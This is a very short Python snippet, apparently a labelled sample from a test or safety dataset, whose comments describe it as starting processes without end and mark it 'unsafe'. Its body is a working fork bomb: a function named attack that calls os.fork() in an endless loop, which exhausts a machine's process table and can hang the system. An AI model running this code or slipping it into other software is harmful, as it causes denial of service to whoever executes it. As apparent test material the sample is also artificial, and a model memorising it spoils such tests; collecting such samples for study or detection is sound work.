# tries: start processes without end
# holds: blocked
# control: unsafe

import os
def attack(facts):
    while True:
        os.fork()
